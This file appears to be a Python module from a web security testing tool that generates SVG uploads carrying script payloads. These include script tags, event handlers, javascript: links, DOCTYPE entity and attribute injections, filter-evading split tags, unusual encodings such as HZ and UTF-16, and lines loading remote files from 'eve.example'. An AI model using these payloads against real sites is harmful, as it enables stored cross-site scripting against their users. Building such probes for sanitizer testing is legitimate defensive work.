"""SVG drawings that run code, or bring what may, in every place and in forms that pass filters.

Each is bytes, an XML document that begins as a drawing does; some are one only after a filter has taken something out.
`probes.drawings.foreign` tells what a browser finds in what became of it. See SVG 2, "Scripting and Interactivity", and
XML 1.0, sections 3.3.2 (default attributes) and 4.4 (entities).
"""

from __future__ import annotations

import itertools
from collections.abc import Iterable, Iterator
from xml.sax.saxutils import escape, quoteattr

from probes.grammars import evasions, placeholders
from probes.grammars.ranked import in_turn, ranked

_SVG, _PAGE = "http://www.w3.org/2000/svg", "http://www.w3.org/1999/xhtml"
_SCRIPT = "<script>alert(1)</script>"
_LINK = 'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)"'
#: What runs, or loads what runs, when it stands within a drawing.
_INSIDE = (
    (_SCRIPT, '<g onload="alert(1)"/>', '<a href="javascript:alert(1)"><path d="M0 0h9"/></a>', _SCRIPT * 2),
    (
        f'<s:script xmlns:s="{_SVG}">alert(1)</s:script>',
        f'<script xmlns="{_PAGE}">alert(1)</script>',
        f'<foreignObject><body xmlns="{_PAGE}" onload="alert(1)"/></foreignObject>',
        f'<a {_LINK}><path d="M0 0h9"/></a>',
        '<path d="M0 0h9" onmouseover="alert(1)"/>',
        '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>',
        '<rect x="1"\n\tonclick\n=\n\'alert(1)\'/>',
        "<script\n>alert(1)</script\n>",
        '<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>',
        '<image href="x" onerror="alert(1)"/>',
        '<set attributeName="onmouseover" to="alert(1)"/>',
        "<style>@import '//eve.example/x.css';</style>",
        f'<iframe xmlns="{_PAGE}" src="javascript:alert(1)"/>',
        '<script href="//eve.example/x.js"/>',
        f'<h:embed xmlns:h="{_PAGE}" src="javascript:alert(1)"/>',
        "<SCRIPT>alert(1)</SCRIPT>",
        '<g ONCLICK="alert(1)"/>',
        f"{_SCRIPT}<g/>{_SCRIPT}{_SCRIPT}",
        '<a><animate attributeName="href" values="javascript:alert(1)"/><path d="M0 0h9"/></a>',
        '<discard onend="alert(1)"/>',
        '<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click"/>',
    ),
)
_PLACES = (
    ("{}", "<g>{}</g>"),
    (
        "<title>{}</title>",
        "<g><g>{}</g></g>",
        "<path d='M0 0h9'>{}</path>",
        "<metadata>{}</metadata>",
        '<x:y xmlns:x="urn:x">{}</x:y>',
        "<!-- x -->{}<!-- y -->",
        "<g/>x{}y",
        "<?x y?>{}",
        "<unknown>{}</unknown>",
        "<g>" * 40 + "{}" + "</g>" * 40,
    ),
)
#: In the document type, before the element; some with what has to stand inside.
_TYPES = (
    ('<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>', ""),
    (f'<!DOCTYPE svg [<!ENTITY x "{_SCRIPT}">]>', "&x;"),
    ('<!DOCTYPE svg [<!ATTLIST path onclick CDATA #FIXED "alert(1)">]>', ""),
    ('<!DOCTYPE svg [<!ENTITY x "&#60;script>alert(1)&#60;/script>">]>', "<title>&x;</title>"),
    ('<!DOCTYPE svg [<!ENTITY y "<script>"><!ENTITY x "&y;alert(1)</script>">]>', "<g>&x;</g>"),
    ('<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>', ""),
    ('<?xml-stylesheet type="text/css" href="//eve.example/x.css"?><!-- x -->', ""),
    ('<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "svg11.dtd" [<!ATTLIST svg onload CDATA "alert(1)">]>', ""),
)
#: Text and values that are markup when they are written without being escaped again.
_UNESCAPED = (
    f"<title>{escape(_SCRIPT)}</title>",
    f"<title><![CDATA[{_SCRIPT}]]></title>",
    f"<title>x</title>{escape(_SCRIPT)}",
    f'<path d={quoteattr(f"M0 0h9{chr(34)}/>{_SCRIPT}<path d={chr(34)}")}/>',
    "<path d='M0 0h9\" onclick=\"alert(1)'/>",
    "<path d=\"M0 0h9' onclick='alert(1)\"/>",
    f"<title>{escape(escape(_SCRIPT))}</title>",
    f"<title>]]&gt;{escape(_SCRIPT)}</title>",
    f"<!-- --&gt; -->{escape(_SCRIPT)}",
    f"<g id={quoteattr(f'--><title>{_SCRIPT}')}/>",
)
#: No XML, and one when something has been taken out.
_THINNED = (
    "<scr<!-- -->ipt>alert(1)</scr<!-- -->ipt>",
    "<scr<script>x</script>ipt>alert(1)</scr<script>x</script>ipt>",
    "<g on<!-- -->load='alert(1)'/>",
    "<g ononloadload='alert(1)'/>",
    "<g onx=\"\"onload='alert(1)'/>",
    "<<script/>script>alert(1)<</script>/script>",
    "<script\0>alert(1)</script>",
    "<![CDATA[<script>]]>alert(1)</script>",
)


def document(inside: str = "", attributes: str = "", before: str = "") -> str:
    """A drawing of one line."""
    return f'{before}<svg xmlns="{_SVG}" viewBox="0 0 9 9"{attributes}><path d="M0 0h9"/>{inside}</svg>'


def documents() -> Iterator[bytes]:
    """Drawings as they are uploaded, likely ones first."""
    yield from (one.encode() for one in (document(_SCRIPT), document(attributes=' onload="alert(1)"')))
    yield from in_turn(
        (document(place.format(inside)).encode() for inside, place in ranked(_INSIDE, _PLACES)),
        (document(inside, before=before).encode() for before, inside in _TYPES),
        (document(inside).encode() for inside in _UNESCAPED),
        (document(inside).encode() for inside in _THINNED),
        _encoded(),
        in_other_encodings(),
        (
            one.encode("utf-8", "replace")
            for inside in (_SCRIPT, '<g onload="alert(1)"/>')
            for one in map(document, evasions.evading(inside))
        ),
    )


def _encoded() -> Iterator[bytes]:
    """In other encodings, with another prefix, and behind what may stand before a drawing."""
    script, handler = document(_SCRIPT), document(attributes=' onload="alert(1)"')
    declared = '<?xml version="1.0" encoding="{}"?>'
    for text in (script, handler):
        yield text.encode("utf-16")
        yield (declared.format("UTF-16") + text).encode("utf-16")
        yield b"\xef\xbb\xbf" + text.encode()
        yield (declared.format("ISO-8859-1") + text).encode()
        yield (declared.format("UTF-8") + "\n<!-- <svg></svg> -->\n" + text).encode()
        yield b"\xfe\xff" + text.encode("utf-16-be")
    named = script.replace("<svg xmlns=", "<s:svg xmlns:s=").replace("</svg", "</s:svg").replace("script>", "s:script>")
    yield named.replace("<path", "<s:path").encode()
    yield script.replace("<svg ", "<g ").replace("</svg", "</g").encode()
    yield f'<html xmlns="{_PAGE}">{script}</html>'.encode()
    yield f"{document()}{script}".encode()
    yield script.replace("</svg>", "").encode()
    yield f"{script}<x".encode()


#: Encodings in which letters of other scripts are written with the bytes of ASCII, as signs that XML leaves alone.
_OF_ASCII = ("HZ", "HZ-GB-2312", "hz-gb-2312")
_HARM = ("<script>alert(1)</script>!", "!<script>alert(1)</script>", "<script>alert(2)</script>", "<script/>", "<script/>!", "!<script/>")


def hidden() -> Iterator[str]:
    """Texts without any sign of markup that are a script for who takes their bytes in one of these encodings for UTF-8."""
    for harm in _HARM:
        try:
            yield f"~{{{harm}~}}".encode().decode("hz")
        except UnicodeDecodeError:
            # Not every pair of bytes is a letter.
            continue


def in_other_encodings(inside: str = "", places: Iterable[str] = ("<title>{}</title>", "<g>{}</g>", "{}", "<text>{}</text>")) -> Iterator[bytes]:
    """Drawings in an encoding that the site may keep, and may call by another name in its header."""
    for text in [inside] if inside else list(hidden()):
        references = "".join(f"&#{ord(sign)};" for sign in text)
        for place in places:
            for name in _OF_ASCII:
                declared = f'<?xml version="1.0" encoding="{name}"?>'
                yield document(place.format(references), before=declared).encode()
                yield document(place.format(text), before=declared).encode("hz")


#: Texts that leave an attribute or a place between tags.
_LEAVING = ('x" onload="alert(1)', f"{_SCRIPT}", "x' onload='alert(1)", f'x"/>{_SCRIPT}<g id="', f"]]>{_SCRIPT}", f"</title>{_SCRIPT}", f"-->{_SCRIPT}")


def slotted(*names: str) -> Iterator[tuple[bytes, str]]:
    """Harmless drawings in which fields of the solution's own, or of these names, stand in every place, and texts for them.

    Where a text is put into a drawing by a look for such a field, it also gets to where the uploader wrote the field.
    """
    own = list(placeholders.own())
    together = [*own[:1], *itertools.islice(placeholders.fields(*names), 2)]
    fields = dict.fromkeys([*together, *placeholders.single(), *own, *placeholders.fields(*names)])
    for field, text in ranked([together[:2], list(fields)[2:]], [_LEAVING[:2], _LEAVING[2:]]):
        inside = f"<title>x</title><g id={quoteattr(field)}>{escape(field)}</g><title>{escape(field)}</title><!-- {field.replace('--', '')} -->"
        quoted = quoteattr(field)
        yield document(inside, f" id={quoted}").encode("utf-8", "replace"), text


def entire() -> tuple[str, ...]:
    """Texts that are a drawing or a page as they stand, with code: for what is kept in a file of its own."""
    return document(_SCRIPT), f"<!doctype html>{_SCRIPT}", document(attributes=' onload="alert(1)"'), _SCRIPT


#: Encodings that Python does not know, or not as encodings, or cannot read with expat: other errors than those of a document.
_UNREADABLE = ("x-club", "utf8-x", "rot13", "base64", "undefined", "x" * 40, "UTF-7", "shift_jis", "gb18030", "idna", "punycode", "unicode_escape", "UTF-32", "mbcs", "hex", "EBCDIC-CP-US")


def breaking(inside: str = _SCRIPT) -> Iterator[bytes]:
    """Drawings with code that make many a program stop in an unexpected way: whatever it has put somewhere by then stays there.

    Encodings that are none, comments and processing instructions where elements are expected, elements without a name to
    look for, too many levels, numbers that are none, and texts that cannot be written again.
    """
    said = document(inside)
    declared = '<?xml version="1.0" encoding="{}"?>'
    others = (
        document(inside + "<g>" * 3000 + "</g>" * 3000),
        document(f"{inside}<!-- x --><?x y?>"),
        document(f'{inside}<script xmlns="">alert(1)</script><g xmlns=""/>'),
        document(f'{inside}<g xmlns:a="urn:x" a:id="x" xml:lang="x"/><a:g xmlns:a="urn:x"/>'),
        document(inside, ' width="" height="NaN" version="x"'),
        document(inside).replace('viewBox="0 0 9 9"', 'viewBox="x"'),
        document(f"<title/>{inside}<title>&#x1F600;\u20ac</title>"),
        document(f"{inside}&x;"),
        document(f"{inside}<g id='&#xD800;'/>"),
        document(inside, before="<!DOCTYPE svg [<!ENTITY % x SYSTEM 'x'>%x;]>"),
        document(inside, before='<!DOCTYPE svg [<!ENTITY x "y">]>'),
        f"{declared.format('UTF-16')}{said}",
        f"{said}<x",
        f"<?xml version='1.1'?>{said}",
        f"<?xml version='9'?>{said}",
    )
    named = [f"{declared.format(name)}{said}" for name in _UNREADABLE]
    yield from (text.encode() for text in in_turn(named, others))
    yield said.replace("</svg>", "\udcff</svg>").encode("utf-8", "surrogateescape")
    yield said.replace("</svg>", "<g id='\udcff'/></svg>").encode("utf-8", "surrogateescape")


def refused(text: str) -> Iterator[bytes]:
    """No drawings: what a site says about them may hold this text, which they hold in every place that messages repeat."""
    place = quoteattr(text)
    yield text.encode("utf-8", "replace")
    yield f"<svg xmlns={place}/>".encode("utf-8", "replace")
    yield document(f"<g xmlns={place}/>").encode("utf-8", "replace")
    yield document(f"<g xmlns:k={place} k:onload='x'/>").encode("utf-8", "replace")
    yield document(f"<k:g xmlns:k={place}/>").encode("utf-8", "replace")
    yield document(f"<g onload={place}/>").encode("utf-8", "replace")
    yield document(f"<script>{escape(text)}</script>").encode("utf-8", "replace")
    # Nothing is an entity there.
    mark = '"' if '"' not in text else "'"
    yield document(before=f"<!DOCTYPE svg SYSTEM {mark}{text}{mark}>").encode("utf-8", "replace")
    yield document(before=f"<!DOCTYPE svg [<!ENTITY a {place}>]>", inside="&a;").encode("utf-8", "replace")
    yield document(f"<g id={place}/><g id={place}/></g>").encode("utf-8", "replace")
